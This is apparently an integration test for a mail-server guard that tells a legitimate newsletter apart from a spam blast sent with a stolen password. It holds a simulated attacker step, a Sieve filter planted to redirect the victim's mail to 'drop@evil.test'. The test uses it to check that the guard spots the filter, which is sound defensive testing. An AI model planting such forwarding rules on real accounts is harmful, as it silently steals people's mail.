/**
 * The guard's first day: nobody is known. Bob's newsletter goes to two thousand, one of ten to nobody. Then somebody with Alice's
 * password blasts five thousand an hour through the same real server, three of ten to nobody: hers alone is held, within sixty messages.
 */
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { test } from 'node:test';
import type { GuardNews } from '../../src/guard/notices/news.ts';
import { startGuard } from '../../src/guard/run.ts';
import type { Guard } from '../../src/guard/run.ts';
import { linesOf, until } from '../servers/lab/await.ts';
import { dialImap } from '../servers/lab/dialogue.ts';
import { labClosed } from '../servers/lab/door.ts';
import { startWorld } from '../servers/lab/world.ts';
import { mailServers } from './mail-servers.ts';
import type { Server } from './mail-servers.ts';
import { deedsIn, logIn, openedIn, postern, settingsAt } from './postmaster.ts';

const sieve = '/var/spool/vmail/lab.test/alice/.dovecot.sieve';
const readers = 2000;
const perMessage = 40;
const blastGapMs = 3_600_000 / 5000;
const blastMax = 60;

/** Of ten the first, fourth and seventh. */
const isDead = (at: number): boolean => [0, 3, 6].includes(at % 10);

const newsletter = async (server: Server): Promise<void> => {
  const smtp = await logIn(server.address, '198.51.100.9', 'bob');
  const names = Array.from({ length: readers }, (_, at) => `${at % 10 === 4 ? 'bounce-' : ''}reader${at}@remote.test`);
  for (let at = 0; at < readers; at += perMessage)
    await smtp.send('bob@lab.test', names.slice(at, at + perMessage), 'Subject: our news\n\nhello');
  smtp.hangUp();
  const told = (): Set<string> =>
    new Set(
      linesOf(server.log)
        .filter(server.isFate)
        .flatMap((line) => line.match(/reader\d+@/g) ?? []),
    );
  // Asked again after a while instead of after each line: the log is long.
  for (let before = 0; before < readers; before = told().size) {
    await until(
      () => `the fate of only ${told().size} readers was told`,
      async () => {
        await pause(200);
        return told().size > before;
      },
    );
  }
};

/** @returns how many messages went out before the first was held */
const blast = async (server: Server, guard: Guard): Promise<number> => {
  const smtp = await logIn(server.address, '203.0.113.50', 'alice');
  let sent = 0;
  let fate = '';
  for (; sent <= blastMax && fate !== 'held'; sent++) {
    const recipient = `${isDead(sent) ? 'bounce' : 'victim'}-${sent}@remote.test`;
    await smtp.send('alice@lab.test', [recipient], `Subject: to ${recipient}\n\nbuy`);
    // The thief's own pace; on a machine that is too slow for it, the guard's.
    [fate] = await Promise.all([server.fateOf(recipient), pause(blastGapMs)]);
    await guard.caughtUp();
  }
  smtp.hangUp();
  return fate === 'held' ? sent - 1 : Infinity;
};

const plant = (): void => {
  mkdirSync(dirname(sieve), { recursive: true });
  writeFileSync(sieve, 'redirect "drop@evil.test";\n');
};

for (const { name, start, hook, listen } of mailServers)
  test(
    `${name}: among accounts that nobody knows a newsletter goes out, and a blast of 5,000 an hour is held within sixty messages`,
    { skip: labClosed },
    async () => {
      await using world = await startWorld();
      const server = await start(world);
      const state = await mkdtemp(join(tmpdir(), 'postern-story-'));
      const news: GuardNews[] = [];
      const guard = await startGuard(
        settingsAt(state, hook).set('logs', [server.log]).set(`${hook}.listen`, listen).set('accounts.lookAgain', '2s'),
        (item) => {
          news.push(item);
          // The thief answers the lock before the guard looks again.
          if (deedsIn([item]).length > 0 && deedsIn(news).length === 1) plant();
        },
      );
      try {
        await newsletter(server);
        await guard.caughtUp();
        await guard.settled();
        assert.deepEqual([openedIn(news), deedsIn(news)], [[], []]);
        const delivered = world.sink.messages.flatMap(({ recipients }) => recipients).length;
        assert.equal(delivered, readers * 0.9);

        const session = await dialImap({ from: '203.0.113.50', to: world.dovecot.address, port: 143 });
        assert.equal((await session.say('LOGIN alice@lab.test alicepw')).status, 'OK');
        const sent = await blast(server, guard);
        assert.ok(sent >= 20 && sent <= blastMax, `${sent} messages`);
        await guard.settled();
        assert.deepEqual(
          openedIn(news).map(({ attack, actors }) => [attack, actors[0]?.value]),
          [['compromised-account', 'alice@lab.test']],
        );
        assert.match(deedsIn(news)[0] ?? '', /^alice@lab\.test is locked: .*1 open imap session from 203\.0\.113\.50/);
        // It looks again, and finds what is new.
        await until(
          () => `it looks again: ${deedsIn(news).join('\n')}`,
          () => deedsIn(news).length > 1,
        );
        const [, again = ''] = deedsIn(news);
        assert.match(again, /^alice@lab\.test, 2s later: /);
        assert.match(again, /1 open imap session from 203\.0\.113\.50/);
        assert.match(again, /NEW since it began: \S+\/alice\/\.dovecot\.sieve \(sends to drop@evil\.test\)/);
        assert.match(again, /its passwords are in \/etc\/dovecot\/users/);
        session.hangUp();
        const remains = JSON.parse(await postern('remains', '--json', 'alice@lab.test', '--state', state));
        assert.deepEqual([remains.filters.length, remains.filters[0].isNew], [1, true]);
        // Bob still writes to whom he likes.
        const smtp = await logIn(server.address, '198.51.100.9', 'bob');
        await smtp.send('bob@lab.test', ['friend@remote.test'], 'Subject: hello\n\nhow are you');
        assert.equal(await server.fateOf('friend@remote.test'), 'sent');
        smtp.hangUp();
      } finally {
        await guard.stop();
        await server[Symbol.asyncDispose]();
        await rm(server.spool.path, { recursive: true });
        await rm(state, { recursive: true });
      }
    },
  );
